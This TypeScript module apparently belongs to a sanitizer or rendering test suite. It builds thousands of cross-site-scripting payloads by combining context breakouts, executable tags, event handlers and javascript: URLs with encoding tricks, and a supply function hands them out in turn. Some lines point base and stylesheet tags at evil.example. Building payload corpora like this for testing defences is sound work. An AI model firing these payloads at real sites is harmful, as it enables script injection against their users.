/**
 * What the public collections of script injections (OWASP's cheat sheet, html5sec, PortSwigger's) are made of, put
 * together in every combination: a way out of where the text stands, a thing that runs, and a way to hide it. Every
 * element bears `planted`, so that one that comes to life is found even if it does not run.
 */
const RUN = 'window.__xss=1';
const ASK = 'alert(1)';

const OUT = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template></select></svg>',
  '-->',
  ']]>',
  '\\u0022>',
  '"));',
  '&quot;&gt;',
  '\u0000">',
  '\u2028',
];

const events = [
  'onerror',
  'onload',
  'onfocus',
  'onpointerover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpageshow',
];
const THINGS = [
  `<script planted>${RUN}</script>`,
  `<script planted src="data:text/javascript,${RUN}"></script>`,
  `<script planted type=module>${RUN}</script>`,
  `<svg planted><script>${RUN}</script></svg>`,
  `<svg planted><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg planted><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg planted><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<math planted><mtext><table><mglyph><style><!--</style><img src=x onerror=${RUN}>`,
  `<iframe planted srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe planted src="javascript:parent.__xss=1"></iframe>`,
  `<object planted data="javascript:${RUN}"></object>`,
  `<embed planted src="javascript:${RUN}">`,
  `<a planted href="javascript:${RUN}">a</a>`,
  `<a planted href="java\nscript:${RUN}">b</a>`,
  `<form planted action="javascript:${RUN}"><button autofocus>go</button></form>`,
  `<button planted formaction="javascript:${RUN}">go</button>`,
  `<input planted autofocus onfocus=${RUN}>`,
  `<select planted autofocus onfocus=${RUN}>`,
  `<details planted open ontoggle=${RUN}>`,
  `<video planted><source onerror=${RUN}></video>`,
  `<audio planted src=x onerror=${RUN}>`,
  `<marquee planted onstart=${RUN}>m</marquee>`,
  `<meta planted http-equiv=refresh content="0;javascript:${RUN}">`,
  '<base planted href="https://evil.example/">',
  '<link planted rel=stylesheet href="https://evil.example/x.css">',
  '<style planted>@import "https://evil.example/x.css";*{display:none}</style>',
  `<style planted>@keyframes k{}</style><b style="animation:k" onanimationstart=${RUN}>`,
  `<noscript><p title="</noscript><img planted src=x onerror=${RUN}>">`,
  `<template planted><script>${RUN}</script></template>`,
  `<dialog planted open><form method=dialog><button onclick=${RUN}>`,
  `<img planted src=x onerror=${ASK}>`,
  ...events.map((event) => `<img planted src=x ${event}=${RUN} tabindex=0 autofocus style="animation:spin 1s">`),
  `x" ${events.map((event) => `${event}="${RUN}"`).join(' ')} planted="`,
  `x' ${events.map((event) => `${event}='${RUN}'`).join(' ')} planted='`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}<%= ${RUN} %>#{${RUN}}`,
  `$ACTION_ID_00,$@1,$F1,$Sreact.fragment {"__proto__":{"planted":1}}`,
];

const HIDE: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('WINDOW.__XSS', 'window.__xss'),
  (text) => text.replace(/<(\w+) /g, '<$1/'),
  (text) => text.replace(/<(\w+) /g, '<$1\t\n'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '\\u003c').replace(/>/g, '\\u003e'),
  (text) => text.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
];

/** Some thousands, no two the same. */
export function attacks(): string[] {
  const all = OUT.flatMap((out) => THINGS.flatMap((thing) => HIDE.map((hide) => out + hide(thing))));
  return [...new Set(all)];
}

/** Hands out the attacks one after another, from the beginning again when all were given. */
export function supply() {
  const all = attacks();
  let at = 0;
  const given = new Set<string>();
  // Further apart than any part repeats, so that the first thousand have something of everything.
  const step = all.length % 1009 === 0 ? 1013 : 1009;
  const next = (most: number): string => {
    for (let tries = 0; tries < all.length; tries++) {
      const attack = all[(at++ * step) % all.length]!;
      // Cut in the middle, an attack is another attack; but each is to stand somewhere as a whole.
      if (attack.length > most) continue;
      given.add(attack);
      return attack;
    }
    return all[0]!.slice(0, most);
  };
  return { next, given, all };
}
export type Supply = ReturnType<typeof supply>;
